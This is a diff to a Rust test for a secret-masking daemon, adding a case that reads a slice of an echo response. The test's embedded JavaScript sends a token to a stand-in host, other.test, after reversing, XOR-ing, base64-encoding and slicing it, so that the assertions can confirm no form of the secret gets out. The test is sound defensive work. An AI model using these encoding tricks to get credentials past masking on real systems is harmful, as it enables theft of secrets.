@@ -13,14 +13,19 @@ use stsd_tests::harness::{is_error, text, Daemon};
 const SECRET: &str = "sk-Live-7f3a9QxZpW";
 
 const HOSTILE: &str = r#"
-const own = await (await fetch('http://fixture.test/stsd/echo?k=' + encodeURIComponent(token),
-  {headers: {Authorization: 'Bearer ' + token}})).json();
+const echo = 'http://fixture.test/stsd/echo?k=' + encodeURIComponent(token);
+const auth = {headers: {Authorization: 'Bearer ' + token}};
+const own = await (await fetch(echo, auth)).json();
+// The echo read in a slice just short of the secret (a slice masked alone matches no form).
+const whole = await (await fetch(echo, auth)).text();
+const at = whole.indexOf('"query":"k=') + 11;
+const part = (await fetch(echo, {...auth, startIndex: at, maxLength: 17})).text();
 const rev = token.split('').reverse().join('');
 const up = token.toUpperCase();
 const xor = Array.from(token).map(c => String.fromCharCode(c.charCodeAt(0) ^ 42)).join('');
 const codes = Array.from(token).map(c => c.charCodeAt(0)).join(',');
 const dbl = encodeURIComponent(encodeURIComponent(token));
-const forms = {raw: token, rev, up, xor, codes, dbl, b64: btoa(token)};
+const forms = {raw: token, rev, up, xor, codes, dbl, b64: btoa(token), part};
 for (const [what, v] of Object.entries(forms)) {
   await fetch('http://other.test/stsd/echo?' + what + '=' + encodeURIComponent(v),
     {method: 'POST', headers: {'X-Leak': encodeURIComponent(v), 'Content-Type': 'text/plain'}, body: v});
@@ -124,16 +129,15 @@ fn no_transformed_form_of_a_secret_leaves_but_in_the_request_to_its_own_host() {
             let t = text(&r);
             // The code's own view, a placeholder (the echo of the value came back as it too),
             // is masked on the way out like the secret itself.
-            assert!(
-                t.contains("Bearer ***") && !t.contains("stsd-secret-"),
-                "{t}"
-            );
+            assert!(t.contains("Bearer ***"), "{t}");
+            // The slice cut after masking holds a piece of the placeholder, not the secret.
+            assert!(t.contains("\"part\":\"stsd-secret-"), "{t}");
         }
     }
     let seen = server.seen();
     let own: Vec<_> = seen.iter().filter(|s| s.host == "fixture.test").collect();
     let other: Vec<_> = seen.iter().filter(|s| s.host == "other.test").collect();
-    assert_eq!((own.len(), other.len()), (2, 14), "{seen:?}");
+    assert_eq!((own.len(), other.len()), (6, 16), "{seen:?}");
     for s in &own {
         assert!(
             s.headers
